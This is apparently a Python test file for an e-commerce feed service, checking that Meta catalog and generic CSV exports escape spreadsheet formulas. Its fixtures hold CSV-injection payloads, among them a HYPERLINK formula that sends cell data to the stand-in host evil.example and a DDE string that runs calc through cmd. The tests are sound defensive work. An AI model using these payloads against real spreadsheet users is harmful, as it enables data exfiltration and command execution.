"""CSV feeds (Meta's catalog, the generic CSV for marketplaces) never carry a live spreadsheet formula."""

import csv
import io

from apps.channels import services
from apps.core.models import Channel
from apps.inventory.models import StockLocation
from apps.pricing.services import price_set
from apps.products import services as product_services
from tests.channels.helpers import described, read
from tests.products.factories import ChannelFactory
from tests.products.fixtures import texts

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
CMD = "+cmd|' /C calc'!A0"


def test_the_meta_feed_escapes_formulas_in_every_text_cell(feeds):
    meta_channel = ChannelFactory(
        code="meta", kind=Channel.Kind.META, locales=["fr_FR"], base_url="https://shop.example"
    )
    StockLocation.objects.get(code="WH").channels.add(meta_channel)
    feeds.sellable(
        "TOY-1", price="9.9", name=texts(HYPERLINK), brand={"*": {"*": "@SUM(1+1)"}},
        description={"fr_FR": {"google": CMD, "web": CMD, "meta": CMD}},
    )  # fmt: skip
    price_set(actor=None, product=feeds.shop.toys.products.get(), channel=meta_channel, amount="9.90")
    feeds.shop.toys.requirements.filter(channel=feeds.shop.google).update(channel=meta_channel)
    product_services.completeness_recompute()
    meta = services.feed_create(
        actor=None, channel=meta_channel, name="catalog", format="meta_csv", locale="fr_FR"
    )
    run = services.feed_build_start(actor=None, feed=meta)
    [row] = list(csv.DictReader(io.StringIO(read(run))))
    assert (row["title"], row["description"], row["brand"]) == ("'" + HYPERLINK, "'" + CMD, "'@SUM(1+1)")
    assert (row["id"], row["price"]) == ("TOY-1", "9.90 EUR")


def test_the_generic_csv_feed_escapes_formulas_and_keeps_numbers(feeds):
    feeds.sellable("TOY-1", stock=5, name=texts("-2+3+cmd|' /C calc'!A0"), description=described("=1+1"))
    feed = services.feed_create(actor=None, channel=feeds.shop.web, name="all", format="csv", locale="fr_FR")
    run = services.feed_build_start(actor=None, feed=feed)
    [row] = list(csv.DictReader(io.StringIO(read(run))))
    assert (row["title"], row["description"]) == ("'-2+3+cmd|' /C calc'!A0", "'=1+1")
    assert (row["quantity"], row["price"]) == ("5", "20.00 EUR")
